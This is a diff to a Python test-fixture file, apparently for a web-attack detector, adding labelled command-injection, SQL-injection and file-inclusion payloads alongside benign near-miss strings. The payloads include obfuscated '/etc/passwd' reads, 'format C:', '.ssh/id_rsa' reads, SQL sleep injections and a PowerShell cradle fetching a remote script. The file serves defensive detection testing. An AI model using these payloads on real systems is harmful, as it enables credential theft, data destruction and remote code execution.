@@ -206,6 +206,21 @@ FRESH2_GENERALISED = [
     ("cmdi", "; Start-Sleep -sec 5", "cmdi.separator-weak"), ("cmdi", ";{cat,/etc/passwd}", "cmdi.brace"),
     ("xss", "top.alert(1)", "xss.js-sink"), ("xss", "alert(String.fromCharCode(88))", "xss.js-sink"),
     ("lfi", "/opt/a/b/c/d/e/f/g/h/i/nginx.conf", "lfi.system-path"), ("lfi", "./.git/config", "lfi.dot-slash"),
+    # from the fourth fresh set's misses (CRS's regression tests): in-word shell obfuscation, cmd.exe FOR loops,
+    # a variable run with arguments, %SYSTEMROOT% paths, format c:, PowerShell cradles as the whole value;
+    # PostgreSQL/SQLite operators after a quote, collate, select*; .ssh/ at the start; IIS %u escapes (below)
+    ("cmdi", "www.google.com;c$@at /et$@c/pas$@swd", "cmdi.separator-weak"),
+    ("cmdi", ";pi``ng -n 3 127.0.0.1", "cmdi.separator-weak"), ("cmdi", ";w^h^o^a^m^i", "cmdi.separator-strong"),
+    ("cmdi", ";c'a't /etc/passwd", "cmdi.separator-weak"), ("cmdi", "for /f %a in ('cmd') do x", "cmdi.for-loop"),
+    ("cmdi", "& FOR %%i IN (a,b,c) DO cmd", "cmdi.for-loop"),
+    ("cmdi", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "cmdi.variable"),
+    ("cmdi", '"|type %SYSTEMROOT%\\win.ini', "cmdi.separator-weak"), ("cmdi", "; format C:", "cmdi.separator-weak"),
+    ("cmdi", "iex (iwr http://10.0.10.10:8000/x.ps1)", "cmdi.bare"),
+    ("cmdi", "Invoke-WebRequest http://example.com/path/file.ps1", "cmdi.bare"),
+    ("sqli", "z'or email notnull--", "sqli.quote-bool"), ("sqli", "a@b.op' and email ilike email--", "sqli.quote-bool"),
+    ("sqli", "user'collate nocase--", "sqli.comment-end"),
+    ("sqli", "x\")) and (select*from(select(sleep(5)))x) --", "sqli.quote-bool"),
+    ("lfi", ".ssh/id_rsa", "lfi.dot-slash"),
     # PowerShell cmdlets with their kind of argument
     ("cmdi", ";start-sleep -s 5", "cmdi.separator-weak"), ("cmdi", "|iex (new-object net.webclient)",
                                                            "cmdi.separator-weak"),
@@ -285,6 +300,10 @@ NEAR_MISSES = [
     "| Fields | {id,name} |", "fields=a;{id,name}", "cfg;{env,prod}", "Venues: NYSE; IEX (Investors Exchange)",
     "In the shell:\niex(1)> 1 + 1", "The onerror=print(log) handler", "the onboarding=confirm(email) flow",
     "(select(one) from the list below)",
+    # near misses of the fourth set's shapes
+    "Q&A; 'ls' is short", "don't; it's fine", "for each item in (list) do x", "I wrote a for loop in (python)",
+    "x=1; $x is one", "Invoke-WebRequest is a cmdlet", "He said 'hi' and email ilike thing", "my .ssh/config notes",
+    "Sort collate nocase -- docs",
 ]
 
 
